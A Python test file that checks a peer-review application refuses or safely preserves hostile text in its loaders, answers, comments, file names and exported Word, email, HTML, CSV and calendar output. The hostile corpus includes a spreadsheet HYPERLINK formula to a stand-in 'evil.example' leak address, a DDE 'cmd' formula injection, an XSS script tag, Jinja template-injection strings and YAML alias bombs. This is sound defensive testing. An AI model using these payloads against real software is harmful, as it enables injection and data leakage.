"""Hostile text, typed into every field people fill in, must never break anything.

A corpus (NUL, a right-to-left override, rich markup, Jinja, spreadsheet formulas, HTML, line breaks,
emoji, a megabyte) goes through every text field of every loader and of every task kind's answer. Each
value is either refused with a message naming the place, or kept exactly as typed; NUL and the
megabyte are always refused. Then one review runs to the end with hostile names and answers, and the
text is found as typed in the Word documents, the emails, the web pages, the CSV export, the calendar
and the command line's tables.
"""

from __future__ import annotations

import copy
import csv
import email
import email.policy
import html
import io
import json
import re
from collections import Counter
from pathlib import Path

import icalendar
import pytest
import yaml
from docx import Document as WordDocument
from sqlmodel import select

from helpers import EXAMPLE, plan_and_publish, run_cli, sign_in

#: Everything in one line that is not refused: it must come out as typed.
MIX_LINE = '=HYPERLINK("http://evil.example/?leak","Click") [/] [bold]x[/red] {{ 7*7 }} {% if x %} <script>alert(1)</script> \u202eevil\u202c 📚 & \'q\''
MIX_PARAGRAPH = MIX_LINE + "\nA second line, +cmd|' /C calc'!A0"
CORPUS = {
    "nul": "before\x00after",
    "escape": "bell\x07 and escape\x1b[31m",
    "right-to-left": "Trust \u202eevil\u202c name",
    "markup": "[/] clash [bold]",
    "jinja": "{{ 7*7 }} {% for x in y %}",
    "formula": "=cmd|' /C calc'!A0",
    "html": '<script>alert(1)</script> & "quoted"',
    "newline": "first line\nsecond line",
    "emoji": "Reading 📚 and writing ✍️",
    "megabyte": "x" * 1_000_000,
}
ALWAYS_REFUSED = {"nul", "escape", "megabyte"}
#: What the corpus tests saw, by (where, "kept" or "refused"): the README quotes these figures.
TALLY: Counter = Counter()


def leaves(data, path=()):
    """(key path, text) for every string in a nest of dicts and lists."""
    if isinstance(data, dict):
        for key, value in data.items():
            yield from leaves(value, (*path, key))
    elif isinstance(data, list):
        for i, value in enumerate(data):
            yield from leaves(value, (*path, i))
    elif isinstance(data, str):
        yield path, data


def replaced(data, path, value):
    data = copy.deepcopy(data)
    node = data
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return data


def at(data, path):
    for key in path:
        data = data[key]
    return data


# --- loaders ------------------------------------------------------------------------------------


def _loader_cases():
    from peer_review.files.frameworks import bundled_frameworks, load_framework_file
    from peer_review.files.partnerships import load_partnership_file
    from peer_review.files.school_calendars import (
        BUNDLED,
        CalendarSpec,
        load_calendar_file,
    )
    from peer_review.files.yaml_document import Document

    framework = yaml.safe_load(bundled_frameworks()["learn-sheffield-trust-review"].read_text())
    framework["strands"] = framework["strands"][:1]  # one strand shows every kind of field
    return [
        ("partnership", yaml.safe_load(EXAMPLE.read_text()), load_partnership_file),
        ("framework", framework, load_framework_file),
        (
            "calendar",
            yaml.safe_load((BUNDLED / "sheffield.yaml").read_text()),
            lambda path: (load_calendar_file(path), Document.read(path).validate(CalendarSpec))[1],
        ),
    ]


@pytest.mark.parametrize("name, data, load", _loader_cases(), ids=lambda v: v if isinstance(v, str) else "")
def test_every_loader_field_refuses_or_keeps_hostile_text(tmp_path, name, data, load):
    from peer_review.errors import UserError

    path = tmp_path / f"{name}.yaml"
    kept, refused = 0, 0
    for field, _ in leaves(data):
        template = yaml.safe_dump(replaced(data, field, "HOSTILE-VALUE"), allow_unicode=True, width=10**9)
        for label, value in CORPUS.items():
            path.write_text(
                template.replace("HOSTILE-VALUE", json.dumps(value)), encoding="utf-8"
            )  # JSON strings are YAML
            try:
                loaded = load(path)
            except UserError as exc:
                refused += 1
                TALLY[name, "refused"] += 1
                assert str(path) in str(exc) and len(str(exc)) < 1000, (field, label, str(exc)[:300])
                if label != "megabyte":  # too big to read at all: no line to name
                    assert re.search(r"line \d+", str(exc)), (field, label, str(exc))
                continue
            kept += 1
            TALLY[name, "kept"] += 1
            assert label not in ALWAYS_REFUSED, (field, label)
            assert value.strip() in _strings(loaded), (field, label)
    assert kept and refused, (kept, refused)


def _strings(loaded) -> set[str]:
    """Every string a loaded object holds, wherever the loader put it."""
    if hasattr(loaded, "spec"):  # a partnership: its parsed file
        loaded = loaded.spec
    return {value for _, value in leaves(loaded.model_dump(mode="json"))}


def test_yaml_itself_cannot_be_turned_against_the_reader(tmp_path):
    """Aliases, deep nesting, repeated keys, raw and escaped NUL, impossible dates: refused with a line."""
    from peer_review.errors import UserError
    from peer_review.files.yaml_document import Document

    bombs = {
        "aliases": "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n",
        "nesting": "a: " + "[" * 5000 + "]" * 5000 + "\n",
        "repeated key": "visit_days: 2\nname: x\nvisit_days: 3\n",
        "raw NUL": "name: a\x00b\n",
        "escaped NUL": 'name: "a\\0b"\n',
        "impossible date": "start: 2023-02-30\n",
        "huge number": "n: " + "9" * 5000 + "\n",
        "huge hex number": "n: 0x" + "f" * 5000 + "\n",
        "a key repeated by value": "a: 1\ntrue: 2\nyes: 3\n",
        "merge key": "a: 1\n<<: {title: x}\ntitle: y\n",
        "too big": "name: " + "x" * 1_100_000 + "\n",
    }
    for label, text in bombs.items():
        path = tmp_path / "bomb.yaml"
        path.write_text(text, encoding="utf-8")
        with pytest.raises(UserError) as caught:
            Document.read(path)
        message = str(caught.value)
        assert message.startswith(str(path)) and len(message) < 400, (label, message)
        assert label == "too big" or re.search(r"line \d", message), (label, message)


def test_the_command_line_names_the_problem_without_a_traceback(tmp_path):
    path = tmp_path / "framework.yaml"
    path.write_text('id: x\ntitle: "[/red] bad"\ntitle: again\n', encoding="utf-8")
    result = run_cli("framework", "validate", path)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "line 3 (title): the key 'title' is given twice (first on line 2)" in result.stderr


# --- answers and outputs ------------------------------------------------------------------------


def _hostile_partnership(tmp_path: Path) -> Path:
    """The bundled triad with every name a person could type made hostile (one line each)."""
    data = yaml.safe_load(EXAMPLE.read_text())
    data["name"] = f"{MIX_LINE} partnership"
    for i, trust in enumerate(data["trusts"]):
        trust["name"] = f"{MIX_LINE} trust {i}"
        trust["ceo"]["name"] = f"{MIX_LINE} ceo {i}"
        for j, reviewer in enumerate(trust["reviewers"]):
            reviewer["name"] = f"[/] {{{{ reviewer }}}} {i}.{j} \u202e📚"
            reviewer["role"] = f"=Role {i}.{j} <b>"
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, width=10**9), encoding="utf-8")
    return path


def _check_every_field(session, task, review, answer) -> dict:
    """Try each corpus value in each of the answer's text fields (validation only, nothing stored);
    return the answer with every field that takes free text filled with hostile text."""
    from peer_review.service import workflow

    hostile = answer
    for path, _original in leaves(answer):
        for label, value in CORPUS.items():
            try:
                parsed = workflow.validate_answer(session, task, review, replaced(answer, path, value))
            except workflow.InvalidAnswer as exc:
                assert len(str(exc)) < 1000, str(exc)[:300]
                TALLY["answers", "refused"] += 1
                continue
            TALLY["answers", "kept"] += 1
            assert label not in ALWAYS_REFUSED, (task.kind, path, label)
            assert at(parsed.model_dump(mode="json"), path) in (value.strip(), value.strip().lower()), (
                task.kind,
                path,
                label,
            )
        if path[-1] in ("person", "email", "response", "decision", "choice"):  # chosen from a list, not typed
            continue
        for value in (MIX_PARAGRAPH, MIX_LINE):
            candidate = replaced(hostile, path, value)
            try:
                workflow.validate_answer(session, task, review, candidate)
            except workflow.InvalidAnswer:
                continue
            hostile = candidate
            break
    return hostile


def test_a_review_with_hostile_text_everywhere(database_url, tmp_path):
    from peer_review import clock
    from peer_review.demo.simulation import answer as simulated
    from peer_review.files.partnerships import load_partnership_file
    from peer_review.service import loading, queries, sweep, workflow
    from peer_review.service.calendars import visits_calendar
    from peer_review.store import db
    from peer_review.store.tables import Document, OutboxMessage, Review, Task

    loaded = load_partnership_file(_hostile_partnership(tmp_path))
    clock.set_time(clock.at_london(loaded.spec.cycle.start, 9))
    try:
        with db.session_scope() as session:
            loading.store_partnership(session, loaded)
            plan_and_publish(session, None)
        kinds_seen, typed_kinds = set(), set()
        for _round in range(40):
            sweep.advance_review(db.session_scope, 1)
            with db.session_scope() as session:
                open_ = session.exec(
                    select(Task).where(Task.review_id == 1, Task.status == "open").order_by(Task.id)
                ).all()
                if not open_:
                    break
                for task in open_:
                    review = session.get(Review, 1)
                    hostile = _check_every_field(
                        session, task, review, simulated(queries.task_context(session, task.id))
                    )
                    kinds_seen.add(task.kind)
                    if hostile != simulated(queries.task_context(session, task.id)):
                        typed_kinds.add(task.kind)
                    email_ = queries.task_context(session, task.id)["assignee"].email
                    workflow.submit(session, task.id, hostile, email_)
        with db.session_scope() as session:
            assert queries.status(session, None)[0].stage == "closed"
            documents = session.exec(select(Document).where(Document.review_id == 1)).all()
            messages = session.exec(select(OutboxMessage)).all()
            calendar = visits_calendar(session, None, "steel-valley")
    finally:
        clock.set_time(None)
    assert len(kinds_seen) >= 9 and len(typed_kinds) >= 8, (kinds_seen, typed_kinds)

    # Word: every document reads back, with the hostile text as typed
    words = {doc.kind: _docx_text(doc.content) for doc in documents}
    assert len(words) >= 3
    assert all(f"{MIX_LINE} trust 0" in text for text in words.values())
    assert MIX_LINE in words["review-report"] and "second line" in words["review-report"]

    # Email: subjects stay one header line, bodies hold the text as typed, HTML escapes it
    assert messages
    for row in messages:
        from peer_review.adapters.mail import build_email

        parsed = email.message_from_bytes(build_email(row).as_bytes(), policy=email.policy.default)
        assert parsed["Subject"] == row.subject and "\n" not in parsed["Subject"]
        assert "<script>alert(1)</script>" not in row.html
    assert any(
        f"{MIX_LINE} trust 0" in row.text and f"{MIX_LINE} trust 0" in html.unescape(row.html) for row in messages
    )

    # Calendar: the host's name comes back as typed
    events = icalendar.Calendar.from_ical(calendar).walk("VEVENT")
    summaries = [str(event["SUMMARY"]) for event in events]
    assert summaries and all(MIX_LINE in summary for summary in summaries)
    assert any(f"{MIX_LINE} trust 0 (" in summary for summary in summaries), summaries

    # Web: the review page as the host sees it, escaped in HTML and shown as typed
    client = sign_in("helen.marsh@steelvalley.example.org")
    page = client.get("/reviews/1")
    assert page.status_code == 200
    assert "<script>alert(1)</script>" not in page.text
    assert MIX_LINE in html.unescape(page.text)

    # CSV: the coordinator's export keeps formulas as text
    coordinator = sign_in("ruth.ashby@coordinator.example.org")
    listing = coordinator.get("/partnerships")
    partnership_path = re.search(r'href="(/partnerships/\d+)"', listing.text).group(1)
    exported = coordinator.get(f"{partnership_path}/status.csv")
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows and all(row["host"].startswith("'=HYPERLINK(") and row["host"][1:].startswith(MIX_LINE) for row in rows)

    # The command line: tables show the names as typed, markup and all
    env = {"PEER_REVIEW_DATABASE_URL": database_url, "COLUMNS": "1000"}
    for command in (["status"], ["tasks"], ["assign", "1", "--explain"]):
        result = run_cli(*command, env=env)
        assert result.returncode == 0 and "Traceback" not in result.stderr, (command, result.stderr)
    assert "[/] {{ reviewer }} " in run_cli("assign", "1", env=env).stdout
    assert f"{MIX_LINE} trust 1" in run_cli("status", env=env).stdout


def _docx_text(content: bytes) -> str:
    document = WordDocument(io.BytesIO(content))
    parts = [p.text for p in document.paragraphs]
    parts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def test_a_comment_keeps_hostile_text_as_typed_on_the_page_and_in_every_email(planned):
    """Each of the corpus typed as a comment: refused with the form's words (NUL, escapes, a megabyte), or kept
    exactly as typed: on the review page (escaped, its spaces and line breaks kept), in the email sent at once
    (the text part as typed, the HTML part escaped) and in the next day's digest."""
    import datetime as dt

    from peer_review import clock
    from peer_review.adapters.mail import build_email
    from peer_review.errors import BadInput
    from peer_review.service import access, discussion, queries, reminders, workflow
    from peer_review.store import db
    from peer_review.store.tables import OutboxMessage

    from helpers import row_counts

    peer, moderator = "owen.fletcher@donriver.example.org", "daniel.okafor@coordinator.example.org"
    kept = {}
    with clock.frozen_at(clock.at_london(dt.date(2023, 11, 6), 9)):
        with db.session_scope() as session:
            discussion.set_comment_emails(session, access.viewer_for(session, moderator), "at_once")
            for task in queries.open_tasks(session):
                if task.review_id == 1 and task.assignee_email in (peer, moderator):
                    workflow.submit(session, task.id, {"response": "accept"}, task.assignee_email)
        for name, value in CORPUS.items():
            before = row_counts()
            try:
                with db.session_scope() as session:
                    discussion.post(session, access.viewer_for(session, peer), 1, None, "team_and_host", value)
            except BadInput as refused:
                assert name in ALWAYS_REFUSED, (name, refused)
                assert refused.problem.startswith(("Comment: remove the control character", "Comment must be 5,000"))
                assert row_counts() == before
                TALLY["comment", "refused"] += 1
                continue
            assert name not in ALWAYS_REFUSED
            kept[name] = value
            TALLY["comment", "kept"] += 1
        assert set(kept) == set(CORPUS) - ALWAYS_REFUSED
        for name, value in (("mix line", MIX_LINE), ("mix paragraph", MIX_PARAGRAPH)):
            with db.session_scope() as session:
                discussion.post(session, access.viewer_for(session, peer), 1, None, "team_and_host", value)
            kept[name] = value
        page = sign_in("helen.marsh@steelvalley.example.org").get("/reviews/1").text
        shown = [
            html.unescape(found)
            for found in re.findall(
                r'<p class="govuk-body app-comment-text govuk-!-margin-bottom-1">(.*?)</p>', page, re.S
            )
        ]
        assert shown == list(kept.values())  # exactly as typed, line breaks and all
        assert "<script>alert(1)</script>" not in page and "\u202eevil" in html.unescape(page)
        with db.session_scope() as session:
            at_once = [m for m in session.exec(select(OutboxMessage)) if m.key.startswith("comment/")]
    with clock.frozen_at(clock.at_london(dt.date(2023, 11, 7), 7)):
        with db.session_scope() as session:
            reminders.sweep(session)
            digests = [m for m in session.exec(select(OutboxMessage)) if m.key.startswith("comment_digest/")]
    assert len(at_once) == len(kept) and digests
    for row in at_once + digests:
        parsed = email.message_from_bytes(build_email(row).as_bytes(), policy=email.policy.default)
        assert parsed["Subject"] == row.subject and "\n" not in parsed["Subject"]
        assert "<script>alert(1)</script>" not in row.html
    for value in kept.values():
        framed = f"----\n{value}\n----"  # the text part frames the comment, as typed
        assert sum(framed in row.text for row in at_once) == 1, value  # one email for each
        assert sum(f">{value}</blockquote>" in html.unescape(row.html) for row in at_once) == 1, value
        assert all(framed in row.text and f">{value}</blockquote>" in html.unescape(row.html) for row in digests)


def test_evidence_file_names_from_the_corpus_are_kept_without_folders_or_controls_and_escaped(planned):
    """Each corpus value as an evidence file's name: kept as the browser's name would be shown (its last part,
    NFC, no control or format characters such as a right-to-left override, at most 150 characters) or refused;
    on the files page escaped and shown as kept; in the download's header percent-encoded on one line; in the
    review's zip and its note as kept."""
    import datetime as dt
    import zipfile
    from urllib.parse import unquote

    from peer_review import clock
    from peer_review.domain.evidence_files import shown_name
    from peer_review.store import db
    from peer_review.store.tables import EvidenceFile

    from helpers import csrf_of, do_until, row_counts

    pdf = b"%PDF-1.4\n%%EOF\n"
    with clock.frozen_at(clock.at_london(dt.date(2023, 11, 6), 9)):
        do_until("submit_evidence")
        host = sign_in("helen.marsh@steelvalley.example.org")
        kept = {}
        for name, value in {**CORPUS, "mix line": MIX_LINE}.items():
            before = row_counts()
            token = csrf_of(host.get("/reviews/1/evidence/1/files").text)
            sent = host.post(
                "/reviews/1/evidence/1/files",
                data={"csrf_token": token, "personal_data": "no"},
                files={"file": (f"{value}.pdf", pdf, "application/pdf")},
            )
            if sent.status_code != 303:
                assert sent.status_code in (400, 413) and "There is a problem" in sent.text, name
                assert row_counts() == before
                TALLY["evidence file name", "refused"] += 1
                continue
            kept[name] = shown_name(f"{value}.pdf")
            TALLY["evidence file name", "kept"] += 1
        with db.session_scope() as session:
            rows = {row.id: row.filename for row in session.exec(select(EvidenceFile))}
        # as the server received them (a browser, like httpx, sends " as %22 and a line break as %0A)
        assert len(rows) == len(kept) and kept["emoji"] in rows.values() and kept["markup"] in rows.values()
        assert all("\u202e" not in name and "\x00" not in name and len(name) <= 150 for name in rows.values())
        page = host.get("/reviews/1/evidence/1/files").text
        assert "<script>alert(1)</script>" not in page
        assert all(
            html.escape(name, quote=False) in html.unescape(page) or name in html.unescape(page)
            for name in rows.values()
        )
        for file_id, name in rows.items():
            header = host.get(f"/files/{file_id}").headers["content-disposition"]
            assert "\n" not in header and unquote(header.split("UTF-8''", 1)[1]) == name
        bundle = zipfile.ZipFile(io.BytesIO(host.get("/reviews/1/documents.zip").content))
        note = bundle.read("what-this-holds.txt").decode()
        assert all(name.rsplit(".", 1)[0] in note for name in rows.values())
